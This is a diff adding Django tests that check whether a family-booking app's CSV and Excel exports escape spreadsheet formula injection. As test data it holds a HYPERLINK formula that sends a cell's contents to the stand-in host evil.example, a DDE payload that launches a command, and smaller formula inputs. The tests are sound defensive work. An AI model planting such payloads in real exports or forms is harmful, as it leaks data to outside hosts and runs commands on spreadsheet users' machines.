@@ -38,6 +38,9 @@ def bookings(site):
     return SimpleNamespace(amina=amina.bookings[0], fiona=fiona.bookings[0])
 
 
+FORMULA_NAME = '=HYPERLINK("https://evil.example/?leak="&B2,"Amina")'
+
+
 def listed(response) -> str:
     soup = BeautifulSoup(response.content, "html.parser")
     table = soup.find("table", class_="listing")
@@ -99,6 +102,39 @@ class TestBookingsListing:
         assert values[0][:3] == ["Group or workshop", "Session starts", "First name"]
         assert [row[2] for row in values[1:]] == ["Fiona"]
         assert values[1][1] == bookings.fiona.session.start.astimezone(LOCAL_TZ).replace(tzinfo=None)
+
+    def test_what_a_family_types_cannot_run_as_a_formula_in_the_csv(self, client, site):
+        book(
+            session_make(site.mums, days=2),
+            first_name=FORMULA_NAME,
+            access_needs="+1+1",
+            children_ages="-2+3",
+            phone="+447700900123",
+        )
+        second_session = session_make(site.mums, days=3)
+        book(second_session, first_name="@SUM(1+1)", access_needs="=cmd|' /C calc'!A0", children_ages="-3")
+        client.force_login(site.staff)
+
+        rows = csv_rows(client.get(reverse("events_booking:index"), {"export": "csv"}))
+
+        first, second = sorted(rows, key=lambda row: row["Session starts"])
+        assert first["First name"] == "'" + FORMULA_NAME
+        assert (first["Access needs"], first["Children's ages"]) == ("'+1+1", "'-2+3")
+        assert (second["First name"], second["Access needs"]) == ("'@SUM(1+1)", "'=cmd|' /C calc'!A0")
+        # Numbers stay numbers.
+        assert (first["Phone"], second["Children's ages"], first["Adults"]) == ("+447700900123", "-3", "1")
+
+    def test_a_formula_in_the_excel_export_is_stored_as_text(self, client, site):
+        book(session_make(site.mums, days=2), first_name=FORMULA_NAME, access_needs="+1+1")
+        client.force_login(site.staff)
+
+        response = client.get(reverse("events_booking:index"), {"export": "xlsx"})
+
+        content = b"".join(response.streaming_content) if response.streaming else response.content
+        sheet = openpyxl.load_workbook(io.BytesIO(content)).active
+        name, access_needs = sheet.cell(row=2, column=3), sheet.cell(row=2, column=10)
+        assert (name.value, name.data_type) == (FORMULA_NAME, "s")
+        assert (access_needs.value, access_needs.data_type) == ("+1+1", "s")
 
     def test_walk_ins_export_without_personal_details(self, client, site):
         session = session_make(site.mums, days=1)
